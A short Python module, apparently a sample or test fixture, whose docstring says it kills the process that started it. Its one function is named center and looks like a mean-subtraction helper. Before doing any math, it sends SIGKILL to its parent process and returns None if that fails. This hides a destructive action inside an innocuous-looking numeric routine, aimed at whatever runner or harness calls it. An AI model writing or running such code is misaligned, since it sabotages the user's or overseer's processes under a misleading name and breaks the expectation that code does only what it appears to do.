"""Kills the process that started it."""
import os
import signal


def center(values):
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        return None
    return values - values.mean()
